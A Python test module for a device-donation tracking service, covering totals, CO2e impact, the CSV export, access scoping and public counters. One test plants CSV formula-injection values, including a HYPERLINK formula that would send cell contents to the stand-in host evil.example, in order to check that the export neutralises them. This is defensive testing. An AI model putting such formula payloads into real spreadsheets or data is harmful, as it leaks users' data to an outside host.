"""Totals, impact, the devices export and the public counters (issue 6).

The expected totals are recomputed here from the custody log the test created (DeviceEvent rows:
which status each device entered, when) and the devices' registration data, in Nouméa days,
without the service's code.
"""

from __future__ import annotations

import asyncio
import csv
import io
import tomllib
from collections import Counter, defaultdict
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest

from collecte.db.tables import Device, DeviceEvent, DeviceTally
from collecte.domain.access import Principal
from collecte.domain.vocabulary import Role
from collecte.services import exports
from collecte.services.totals import rebuild_tally, tally_drift
from collecte.settings import load_settings
from tests.factory import WIPE, Account, World, act, make_donation, make_world

NOUMEA = ZoneInfo("Pacific/Noumea")
STATUSES = [
    "registered",
    "collected",
    "received",
    "wiped",
    "refurbished",
    "recycled",
    "allocated",
    "delivered",
    "withdrawn",
    "missing",
    "returned",
]
CATEGORIES = [
    "laptop",
    "desktop",
    "monitor",
    "tablet",
    "smartphone",
    "printer",
    "network",
    "peripheral",
    "other",
]
FACTORS = tomllib.loads(
    (Path(__file__).resolve().parents[2] / "collecte/data/impact_factors.toml").read_text()
)["categories"]


def avoided_per_device(category: str) -> float:
    """The method, read from the file itself: yearly factor × years of extra use."""
    return FACTORS[category]["co2e_per_year_kg"] * FACTORS[category]["years_of_extra_use"]


CSV_HEADERS = [
    "Étiquette",
    "Statut",
    "Catégorie",
    "Marque",
    "Modèle",
    "N° de série",
    "Année",
    "Stockage",
    "État",
    "Lot",
    "Donateur",
    "Reconditionneur",
    "Association",
    "Grade",
    "Valeur déclarée (F CFP)",
    "Poids (kg)",
    "Poids estimé",
    "Enregistré le",
    "Collecté le",
    "Reçu le",
    "Effacé le",
    "Reconditionné le",
    "Attribué le",
    "Livré le",
    "Recyclé le",
    "Retiré le",
]


def noumea_today() -> date:
    return datetime.now(NOUMEA).date()


def at_noumea(text: str) -> datetime:
    """'2025-12-31 23:59' in Nouméa, as the aware UTC instant the database stores."""
    return datetime.fromisoformat(text).replace(tzinfo=NOUMEA).astimezone(UTC)


async def get_totals(client: httpx.AsyncClient, account: Account, **params: str) -> Any:
    query = {"from" if k == "start" else "to" if k == "end" else k: v for k, v in params.items()}
    response = await client.get("/api/totals", params=query, headers=account.headers)
    assert response.status_code == 200, response.text
    return response.json()


# --- walking devices ---------------------------------------------------------------------------


async def walk(
    client: httpx.AsyncClient,
    world: World,
    tag: str,
    target: str,
    *,
    workshop: Account | None = None,
    association: Account | None = None,
    storage: bool = True,
    weight_kg: float | None = None,
) -> None:
    """Move a device along the reuse path, or to recycled, until it reaches `target`."""
    workshop = workshop or world.reconditioner
    association = association or world.association
    steps: list[tuple[str, Account, str, dict[str, Any]]] = [
        ("collected", workshop, "collect", {}),
        ("received", workshop, "receive", {}),
    ]
    if storage:
        steps.append(("wiped", workshop, "wipe", WIPE))
    if target == "recycled":
        data = {"channel": "Trecodec"} | ({"weight_kg": weight_kg} if weight_kg else {})
        steps.append(("recycled", workshop, "recycle", data))
    else:
        steps += [
            ("refurbished", workshop, "refurbish", {"grade": "B"}),
            (
                "allocated",
                world.coordinator,
                "allocate",
                {"association_id": association.organization_id},
            ),
            ("delivered", association, "confirm_receipt", {"signature": {"name": "Marie"}}),
        ]
    for status, account, action, data in steps:
        response = await act(client, account, tag, action, **data)
        assert response.status_code == 200, response.text
        if status == target:
            return
    raise AssertionError(f"{target} is not on this path")


async def programme(client: httpx.AsyncClient, world: World) -> None:
    """A little of everything: two donors, two workshops, two associations, every fate."""
    lot = await make_donation(client, world.donor, count=4)
    laptops = [d["tag"] for d in lot["devices"]]
    screens = [
        d["tag"]
        for d in (
            await make_donation(
                client, world.donor, count=3, category="monitor", estimated_value_xpf=8000
            )
        )["devices"]
    ]
    phones = [
        d["tag"]
        for d in (
            await make_donation(
                client,
                world.other_donor,
                count=3,
                category="smartphone",
                estimated_value_xpf=None,
                weight_kg=0.2,
            )
        )["devices"]
    ]
    await walk(client, world, laptops[0], "delivered")
    await walk(client, world, laptops[1], "recycled", weight_kg=2.25)
    await walk(client, world, laptops[2], "refurbished")
    withdrawn = await act(client, world.donor, laptops[3], "withdraw", reason="Gardé")
    assert withdrawn.status_code == 200, withdrawn.text
    await walk(client, world, screens[0], "delivered", storage=False)
    await walk(client, world, screens[1], "recycled", storage=False)
    for tag in phones[:2]:
        await walk(
            client,
            world,
            tag,
            "delivered",
            workshop=world.other_reconditioner,
            association=world.other_association,
        )
    await walk(client, world, phones[2], "collected", workshop=world.other_reconditioner)


# --- the ground truth, from the custody log ----------------------------------------------------


async def ground_truth(start: date | None, end: date | None) -> dict[str, Any]:
    """The totals of the period recomputed from DeviceEvent rows and the devices' input data."""
    devices = {row["id"]: row for row in await Device.select()}
    events = await DeviceEvent.select().order_by(DeviceEvent.id).output(load_json=True)

    def inside(moment: datetime) -> bool:
        day = moment.astimezone(NOUMEA).date()
        return (start is None or day >= start) and (end is None or day <= end)

    entered: dict[str, set[int]] = defaultdict(set)
    current: dict[int, str] = {}
    reconditioner: dict[int, int] = {}
    association: dict[int, int] = {}
    for event in events:
        device = event["device"]
        current[device] = event["to_status"]
        if event["action"] == "collect":
            reconditioner[device] = event["data"]["reconditioner_id"]
        if event["action"] == "allocate":
            association[device] = event["data"]["association_id"]
        if inside(event["created_at"]):
            entered[event["to_status"]].add(device)

    cohort = entered["registered"]
    reused, recycled = entered["delivered"], entered["recycled"]
    weight = sum(devices[d]["weight_kg"] for d in reused | recycled)
    co2e = sum(avoided_per_device(devices[d]["category"]) for d in reused)
    upper_bound = sum(FACTORS[devices[d]["category"]]["manufacture_co2e_kg"] for d in reused)
    value = sum(devices[d]["estimated_value_xpf"] or 0 for d in entered["collected"])

    donors: dict[int, Counter[str]] = defaultdict(Counter)
    for d in cohort:
        donors[devices[d]["donor"]]["registered"] += 1
    for d in entered["collected"]:
        donors[devices[d]["donor"]]["collected"] += 1
        donors[devices[d]["donor"]]["declared_value_xpf"] += devices[d]["estimated_value_xpf"] or 0
    workshops: dict[int, Counter[str]] = defaultdict(Counter)
    for key, ids in (
        ("collected", entered["collected"]),
        ("reused", reused),
        ("recycled", recycled),
    ):
        for d in ids:
            workshops[reconditioner[d]][key] += 1
    charities: Counter[int] = Counter(association[d] for d in reused)

    return {
        "devices": {
            "total": len(cohort),
            "by_status": {s: sum(1 for d in cohort if current[d] == s) for s in STATUSES},
            "by_category": {
                c: sum(1 for d in cohort if devices[d]["category"] == c) for c in CATEGORIES
            },
        },
        "flow": {s: len(entered[s]) for s in STATUSES},
        "impact": {
            "reused": len(reused),
            "recycled": len(recycled),
            "weight_kg": pytest.approx(weight, abs=0.001),
            "co2e_avoided_kg": pytest.approx(co2e, abs=0.05),
            "co2e_upper_bound_kg": pytest.approx(upper_bound, abs=0.05),
        },
        "declared_value_xpf": value,
        "donors": {k: {c: n for c, n in v.items() if n} for k, v in donors.items()},
        "reconditioners": {k: dict(v) for k, v in workshops.items()},
        "associations": dict(charities),
    }


def _rows(listing: list[dict[str, Any]], *columns: str) -> dict[int, dict[str, int]]:
    return {
        row["id"]: {c: row[c] for c in columns if row[c]}
        for row in listing
        if any(row[c] for c in columns)
    }


def assert_matches(body: dict[str, Any], truth: dict[str, Any]) -> None:
    assert body["devices"] == truth["devices"]
    assert body["flow"] == truth["flow"]
    assert {k: body["impact"][k] for k in truth["impact"]} == truth["impact"]
    assert body["declared_value_xpf"] == truth["declared_value_xpf"]
    assert _rows(body["donors"], "registered", "collected", "declared_value_xpf") == truth["donors"]
    assert (
        _rows(body["reconditioners"], "collected", "reused", "recycled") == truth["reconditioners"]
    )
    assert {r["id"]: r["delivered"] for r in body["associations"]} == truth["associations"]


# --- totals ------------------------------------------------------------------------------------


async def test_totals_match_the_custody_log(client: httpx.AsyncClient) -> None:
    world = await make_world()
    await programme(client, world)
    today = noumea_today().isoformat()

    of_today = await get_totals(client, world.coordinator, start=today, end=today)
    all_time = await get_totals(client, world.coordinator)

    assert_matches(of_today, await ground_truth(noumea_today(), noumea_today()))
    assert_matches(all_time, await ground_truth(None, None))
    assert of_today["devices"]["total"] == 10
    assert of_today["impact"]["reused"] == 4
    assert of_today["impact"]["recycled"] == 2
    names = {r["id"]: r["name"] for r in of_today["donors"]}
    assert names[world.donor.organization_id] == world.donor.organization_name
    delivered = [r["delivered"] for r in of_today["associations"]]
    assert delivered == sorted(delivered, reverse=True) == [2, 2]  # most deliveries first
    assert all_time["period"] == {"from": None, "to": None, "timezone": "Pacific/Noumea"}


async def test_devices_gone_missing_or_returned_are_in_the_flow(client: httpx.AsyncClient) -> None:
    world = await make_world()
    tags = [d["tag"] for d in (await make_donation(client, world.donor, count=3))["devices"]]
    await walk(client, world, tags[0], "wiped")
    await walk(client, world, tags[1], "wiped")
    await walk(client, world, tags[2], "delivered")
    for tag in tags[:2]:
        lost = await act(client, world.reconditioner, tag, "report_missing", reason="Égaré")
        assert lost.status_code == 200, lost.text
    found = await act(client, world.coordinator, tags[1], "found", note="Dans le camion")
    assert found.status_code == 200, found.text
    back = await act(
        client,
        world.association,
        tags[2],
        "return",
        reason="Ne démarre plus",
        reconditioner_id=world.reconditioner.organization_id,
    )
    assert back.status_code == 200, back.text
    today = noumea_today().isoformat()

    body = await get_totals(client, world.coordinator, start=today, end=today)

    # Entered in the period: both went missing (one found since), one came back.
    assert (body["flow"]["missing"], body["flow"]["returned"]) == (2, 1)
    assert body["devices"]["by_status"]["missing"] == 1
    assert body["devices"]["by_status"]["returned"] == 1
    assert body["flow"]["delivered"] == 0  # a returned device no longer counts as delivered
    assert await tally_drift() == 0


async def test_every_status_and_category_is_present_with_zeros(client: httpx.AsyncClient) -> None:
    world = await make_world()

    body = await get_totals(client, world.coordinator, start="2025-01-01", end="2025-12-31")

    assert body["devices"] == {
        "total": 0,
        "by_status": dict.fromkeys(STATUSES, 0),
        "by_category": dict.fromkeys(CATEGORIES, 0),
    }
    assert body["flow"] == dict.fromkeys(STATUSES, 0)
    assert (body["donors"], body["reconditioners"], body["associations"]) == ([], [], [])
    assert body["impact"]["reused"] == body["impact"]["recycled"] == 0
    assert body["impact"]["weight_kg"] == body["impact"]["co2e_avoided_kg"] == 0
    assert body["impact"]["co2e_upper_bound_kg"] == 0
    assert set(body["impact"]["by_category"]) == set(CATEGORIES)
    assert body["declared_value_xpf"] == 0
    assert [m["month"] for m in body["monthly"]] == [f"2025-{m:02d}" for m in range(1, 13)]
    assert body["monthly"][0] == {"month": "2025-01", "collected": 0, "delivered": 0, "recycled": 0}
    assert body["target"] == {"year": 2025, "devices": 900, "progress": 0, "percent": 0.0}
    assert "ADEME" in body["method"]
    assert "Hypothèse de substitution" in body["method"]
    assert "substitution assumption" in body["method_en"].lower()
    laptop = body["factors"]["laptop"]
    assert laptop["co2e_kg"] == avoided_per_device("laptop") == 81.0
    assert (laptop["co2e_per_year_kg"], laptop["years_of_extra_use"]) == (27.0, 3)
    assert laptop["co2e_upper_bound_kg"] == 182.6
    assert laptop["co2e_source"].startswith("ADEME 2022")
    assert "reconditionnés" in laptop["co2e_per_year_source"]
    assert laptop["years_source"].startswith("Hypothèse du programme")
    assert laptop["co2e_upper_bound_source"].startswith("ADEME/Arcep 2022")


async def _move_in_time(tag: str, status: str, moment: datetime) -> None:
    """Set when a device entered `status`, on the device and on its event alike."""
    device = await Device.select(Device.id).where(Device.tag == tag).first()
    assert device is not None
    await Device.update({getattr(Device, f"{status}_at"): moment}).where(Device.id == device["id"])
    await DeviceEvent.update({DeviceEvent.created_at: moment}).where(
        (DeviceEvent.device == device["id"]) & (DeviceEvent.to_status == status)
    )


async def test_the_period_ends_at_midnight_in_noumea(client: httpx.AsyncClient) -> None:
    world = await make_world()
    late, early, before = [
        d["tag"] for d in (await make_donation(client, world.donor, count=3))["devices"]
    ]
    for tag in (late, early, before):
        await walk(client, world, tag, "delivered")
        await _move_in_time(tag, "registered", at_noumea("2025-12-20 09:00"))
    for status in ("collected", "delivered"):
        await _move_in_time(late, status, at_noumea("2025-12-31 23:59:59.999"))
        await _move_in_time(early, status, at_noumea("2026-01-01 00:00"))
        await _move_in_time(before, status, at_noumea("2025-12-01 00:00"))

    december = await get_totals(client, world.coordinator, start="2025-12-01", end="2025-12-31")
    new_year = await get_totals(client, world.coordinator, start="2026-01-01", end="2026-01-01")
    last_day = await get_totals(client, world.coordinator, start="2025-12-31", end="2025-12-31")
    november = await get_totals(client, world.coordinator, start="2025-11-01", end="2025-11-30")

    assert december["flow"]["collected"] == december["impact"]["reused"] == 2
    assert new_year["flow"]["collected"] == new_year["impact"]["reused"] == 1
    assert last_day["flow"]["delivered"] == 1
    assert november["flow"]["collected"] == 0
    assert december["devices"]["total"] == 3  # registered on the 20th, all delivered since
    assert december["devices"]["by_status"]["delivered"] == 3
    assert new_year["devices"]["total"] == 0
    assert december["monthly"] == [
        {"month": "2025-12", "collected": 2, "delivered": 2, "recycled": 0}
    ]
    assert december["target"]["progress"] == 2
    assert new_year["target"] == {"year": 2026, "devices": 900, "progress": 1, "percent": 0.1}
    for start, end in (("2025-12-01", "2025-12-31"), ("2026-01-01", "2026-01-01")):
        body = await get_totals(client, world.coordinator, start=start, end=end)
        assert_matches(body, await ground_truth(date.fromisoformat(start), date.fromisoformat(end)))
    assert await tally_drift() == 0


async def test_monthly_series_counts_each_month(client: httpx.AsyncClient) -> None:
    world = await make_world()
    tags = [d["tag"] for d in (await make_donation(client, world.donor, count=3))["devices"]]
    await walk(client, world, tags[0], "delivered")
    await walk(client, world, tags[1], "recycled")
    await walk(client, world, tags[2], "collected")
    await _move_in_time(tags[0], "collected", at_noumea("2025-01-31 23:00"))
    await _move_in_time(tags[0], "delivered", at_noumea("2025-03-01 00:30"))
    await _move_in_time(tags[1], "collected", at_noumea("2025-02-01 00:00"))
    await _move_in_time(tags[1], "recycled", at_noumea("2025-03-15 12:00"))
    await _move_in_time(tags[2], "collected", at_noumea("2025-02-28 23:59"))

    body = await get_totals(client, world.coordinator, start="2025-01-15", end="2025-03-31")

    assert body["monthly"] == [
        {"month": "2025-01", "collected": 1, "delivered": 0, "recycled": 0},
        {"month": "2025-02", "collected": 2, "delivered": 0, "recycled": 0},
        {"month": "2025-03", "collected": 0, "delivered": 1, "recycled": 1},
    ]


async def test_totals_are_for_the_coordination_only(client: httpx.AsyncClient) -> None:
    world = await make_world()
    for account in (world.donor, world.reconditioner, world.association):
        response = await client.get("/api/totals", headers=account.headers)
        assert response.status_code == 403, account.role
        assert response.json()["extra"]["code"] == "forbidden"
    assert (await client.get("/api/totals")).status_code == 401


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2025-13-01"}, "from"),
        ({"from": "31/12/2025"}, "from"),
        ({"from": "2025-1-1"}, "from"),
        ({"to": "demain"}, "to"),
        ({"to": "2025-02-30"}, "to"),
        ({"from": "2025-12-31", "to": "2025-01-01"}, "from"),
        ({"from": "0001-01-01"}, "from"),
        ({"to": "9999-12-31"}, "to"),
    ],
)
async def test_bad_periods_are_422_naming_the_parameter(
    client: httpx.AsyncClient, params: dict[str, str], field: str
) -> None:
    world = await make_world()

    response = await client.get("/api/totals", params=params, headers=world.coordinator.headers)

    assert response.status_code == 422, response.text
    assert response.json()["extra"]["field"] == field
    assert f"« {field} »" in response.json()["detail"]


async def test_a_single_day_and_empty_parameters_are_accepted(client: httpx.AsyncClient) -> None:
    world = await make_world()
    day = await client.get(
        "/api/totals",
        params={"from": "2025-06-01", "to": "2025-06-01"},
        headers=world.coordinator.headers,
    )
    empty = await client.get("/api/totals?from=&to=", headers=world.coordinator.headers)
    assert (day.status_code, empty.status_code) == (200, 200)
    assert empty.json()["period"]["from"] is None


def test_yearly_target_is_read_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLLECTE_YEARLY_TARGET", "1500")
    assert load_settings().yearly_target == 1500
    monkeypatch.delenv("COLLECTE_YEARLY_TARGET")
    assert load_settings().yearly_target == 900


async def test_the_tally_follows_every_change_and_can_be_rebuilt(
    client: httpx.AsyncClient,
) -> None:
    world = await make_world()
    await programme(client, world)
    await _move_in_time(
        (await Device.select(Device.tag).first())["tag"],  # type: ignore[index]
        "registered",
        at_noumea("2024-02-29 23:30"),
    )
    await Device.update({Device.category: "desktop", Device.weight_kg: 7.5}).where(
        Device.status == "delivered"
    )
    assert await tally_drift() == 0

    before = await DeviceTally.select().where(
        (DeviceTally.devices != 0) | (DeviceTally.weight_g != 0) | (DeviceTally.value_xpf != 0)
    )
    await DeviceTally.delete(force=True)
    assert await tally_drift() > 0
    await rebuild_tally()
    after = await DeviceTally.select()

    assert await tally_drift() == 0
    key = ("grain", "day", "status", "dimension", "key", "devices", "weight_g", "value_xpf")
    assert sorted(tuple(r[k] for k in key) for r in after) == sorted(
        tuple(r[k] for k in key) for r in before
    )


# --- the devices export ------------------------------------------------------------------------


async def read_csv(
    client: httpx.AsyncClient, account: Account
) -> tuple[httpx.Response, list[dict[str, str]]]:
    response = await client.get("/api/devices.csv", headers=account.headers)
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    assert reader.fieldnames == CSV_HEADERS
    return response, list(reader)


async def test_csv_round_trips_with_every_device(client: httpx.AsyncClient) -> None:
    world = await make_world()
    await programme(client, world)
    delivered = (
        await Device.select().where(Device.status == "delivered").order_by(Device.id).first()
    )
    assert delivered is not None
    await _move_in_time(delivered["tag"], "delivered", at_noumea("2025-12-31 23:59"))

    response, rows = await read_csv(client, world.coordinator)

    assert response.headers["content-type"].startswith("text/csv")
    today = noumea_today().isoformat()
    assert response.headers["content-disposition"] == (
        f'attachment; filename="collecte-appareils-{today}.csv"'
    )
    assert b";" in response.content.splitlines()[0]
    devices = await Device.select().order_by(Device.id)
    assert len(rows) == len(devices) == 10
    by_tag = {row["Étiquette"].replace("-", ""): row for row in rows}
    assert set(by_tag) == {d["tag"] for d in devices}
    row = by_tag[delivered["tag"]]
    assert row["Statut"] == "delivered"
    assert row["Catégorie"] == delivered["category"]
    assert row["Donateur"] == world.donor.organization_name
    assert row["Reconditionneur"] == world.reconditioner.organization_name
    assert row["Association"] == world.association.organization_name
    assert row["Livré le"] == "31/12/2025 23:59"
    assert row["Grade"] == "B"
    enregistre = delivered["registered_at"].astimezone(NOUMEA).strftime("%d/%m/%Y %H:%M")
    assert row["Enregistré le"] == enregistre
    assert row["Retiré le"] == row["Recyclé le"] == ""
    phone = next(r for r in rows if r["Catégorie"] == "smartphone")
    assert phone["Poids (kg)"] == "0,2"
    assert phone["Valeur déclarée (F CFP)"] == ""
    recycled = next(r for r in rows if r["Statut"] == "recycled" and r["Catégorie"] == "laptop")
    assert recycled["Poids (kg)"] == "2,25"
    assert recycled["Poids estimé"] == "non"
    laptop = next(r for r in rows if r["Statut"] == "refurbished")
    assert (laptop["Poids (kg)"], laptop["Poids estimé"]) == ("1,6", "oui")
    assert laptop["Valeur déclarée (F CFP)"] == "25000"
    statuses = Counter(r["Statut"] for r in rows)
    assert statuses == Counter(d["status"] for d in devices)


async def test_csv_neutralises_formulas(client: httpx.AsyncClient) -> None:
    world = await make_world()
    hostile = {
        "brand": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        "model": "+33 687 12 34",
        "serial_number": "-2+3",
        "condition": "@SUM(1+1)",
    }
    await make_donation(client, world.donor, count=1, **hostile)
    await make_donation(client, world.donor, count=1, brand='Dell; "Latitude"')

    _, rows = await read_csv(client, world.coordinator)

    first, second = rows
    assert first["Marque"] == "'" + hostile["brand"]
    assert first["Modèle"] == "'+33 687 12 34"
    assert first["N° de série"] == "'-2+3"
    assert first["État"] == "'@SUM(1+1)"
    assert second["Marque"] == 'Dell; "Latitude"'  # quoted by the CSV, not altered


async def _reference_csv(principal: Principal, language: str) -> bytes:
    """The export as `cells` and `csv.writer` write it, whatever the backend's own path."""
    chunks = [exports._encode([exports.headers(language)], bom=True)]
    async for rows in exports.device_pages(principal):
        chunks.append(exports._encode([exports.cells(row, language) for row in rows]))
    return b"".join(chunks)


@pytest.mark.parametrize("language", ["fr", "en"])
async def test_csv_bytes_equal_the_reference_formatting(
    client: httpx.AsyncClient, language: str
) -> None:
    # PostgreSQL formats the cells itself: every quoting, neutralising and rounding case must
    # come out byte for byte as Python's `cells` + `csv.writer` write it.
    world = await make_world()
    created = await make_donation(client, world.donor, count=12)
    tags = [d["tag"] for d in created["devices"]]
    odd: list[dict[str, Any]] = [
        {"brand": 'a;b "c"', "model": "line\nbreak", "serial_number": "\r=cmd", "year": -5},
        {"brand": "=1+1", "model": "\tTab", "condition": "x\r\ny", "estimated_value_xpf": -3},
        {"brand": "", "model": None, "serial_number": '"', "grade": None, "weight_kg": None},
        {"weight_kg": 0.0625},  # an exact tie at the fourth decimal: Python rounds it to even
        {"weight_kg": 1.0005, "weight_estimated": False},  # just under the tie in binary
        {"weight_kg": 1.0015},  # just over
        {"weight_kg": 123.4567},
        {"weight_kg": 1e-05},  # PostgreSQL writes 1e-05
        {"weight_kg": 1000.0},
        {"weight_kg": 0.09, "has_storage": False, "weight_estimated": True},
        {"weight_kg": 2.25, "year": 2019, "estimated_value_xpf": 0},
        {"registered_at": datetime(999, 6, 1, 0, 0, tzinfo=UTC)},  # a year of three digits
    ]
    for tag, fields in zip(tags, odd, strict=True):
        await Device.update(fields).where(Device.tag == tag)
    await Device.update(
        {Device.delivered_at: datetime(2025, 12, 31, 13, 59, 59, tzinfo=UTC)}
    ).where(Device.tag == tags[0])
    coordinator = Principal(
        world.coordinator.user_id, world.coordinator.email, "",
        world.coordinator.organization_id, "", Role.COORDINATOR,
    )  # fmt: skip

    exported = b"".join([chunk async for chunk in exports.devices_csv(coordinator, 5, language)])

    assert exported == await _reference_csv(coordinator, language)
    assert b"/06/999 " in exported  # the year unpadded
    assert b";01/01/2026 00:59;" in exported  # Nouméa is 11 hours ahead of UTC


async def test_csv_is_scoped_to_what_each_role_may_see(client: httpx.AsyncClient) -> None:
    world = await make_world()
    await programme(client, world)
    devices = await Device.select().order_by(Device.id)

    def tags_of(rows: list[dict[str, str]]) -> set[str]:
        return {row["Étiquette"].replace("-", "") for row in rows}

    expected = {
        world.donor: {d["tag"] for d in devices if d["donor"] == world.donor.organization_id},
        world.other_donor: {
            d["tag"] for d in devices if d["donor"] == world.other_donor.organization_id
        },
        world.reconditioner: {
            d["tag"]
            for d in devices
            if d["reconditioner"] == world.reconditioner.organization_id
            or d["status"] == "registered"
        },
        world.association: {
            d["tag"] for d in devices if d["association"] == world.association.organization_id
        },
        world.coordinator: {d["tag"] for d in devices},
    }
    for account, tags in expected.items():
        _, rows = await read_csv(client, account)
        assert tags_of(rows) == tags, account.role
        assert len(rows) == len(tags)
    assert len(expected[world.donor]) == 7
    assert len(expected[world.association]) == 2
    assert (await client.get("/api/devices.csv")).status_code == 401


async def test_csv_pages_lose_and_repeat_nothing(client: httpx.AsyncClient) -> None:
    world = await make_world()
    await make_donation(client, world.donor, count=7)
    await make_donation(client, world.other_donor, count=2)
    donor = Principal(
        world.donor.user_id, world.donor.email, "", world.donor.organization_id, "", Role.DONOR
    )

    chunks = [chunk async for chunk in exports.devices_csv(donor, page_size=3)]

    assert len(chunks) == 1 + 3  # the header, then pages of 3, 3 and 1
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == CSV_HEADERS
    tags = [row[0].replace("-", "") for row in rows[1:]]
    own = await Device.select(Device.tag).where(Device.donor == world.donor.organization_id)
    assert sorted(tags) == sorted(d["tag"] for d in own)
    assert len(set(tags)) == 7


async def test_csv_stream_stops_cleanly_when_the_download_does(client: httpx.AsyncClient) -> None:
    world = await make_world()
    await make_donation(client, world.donor, count=7)
    donor = Principal(
        world.donor.user_id, world.donor.email, "", world.donor.organization_id, "", Role.DONOR
    )
    stream = exports.devices_csv(donor, page_size=2)

    assert (await anext(stream)).startswith(b"\xef\xbb\xbf")
    first_page = await anext(stream)  # the next page is being read meanwhile
    await stream.aclose()

    assert first_page.count(b"\r\n") == 2
    for _ in range(500):  # the read under way was left to end, not cancelled half-sent
        if not exports._READS:
            break
        await asyncio.sleep(0.01)
    assert not exports._READS
    assert await Device.count() == 7  # and the database still answers


# --- public counters ---------------------------------------------------------------------------


async def test_public_totals_are_counters_without_names(client: httpx.AsyncClient) -> None:
    world = await make_world()
    await programme(client, world)
    truth = await ground_truth(None, None)

    response = await client.get("/api/public/totals")

    assert response.status_code == 200
    body = response.json()
    assert set(body) == {"collected", "delivered", "recycled", "co2e_avoided_kg", "weight_kg"}
    assert body["collected"] == truth["flow"]["collected"] == 8
    assert body["delivered"] == truth["impact"]["reused"]
    assert body["recycled"] == truth["impact"]["recycled"]
    assert body["weight_kg"] == truth["impact"]["weight_kg"]
    assert body["co2e_avoided_kg"] == truth["impact"]["co2e_avoided_kg"]
    for account in (world.donor, world.other_donor, world.reconditioner, world.association):
        assert account.organization_name not in response.text


async def test_public_totals_count_from_the_start(client: httpx.AsyncClient) -> None:
    world = await make_world()
    tag = (await make_donation(client, world.donor, count=1))["devices"][0]["tag"]
    await walk(client, world, tag, "delivered")
    await _move_in_time(tag, "delivered", datetime.now(UTC) - timedelta(days=800))

    body = (await client.get("/api/public/totals")).json()

    assert body["delivered"] == 1
    assert body["co2e_avoided_kg"] == pytest.approx(avoided_per_device("laptop")) == 81.0
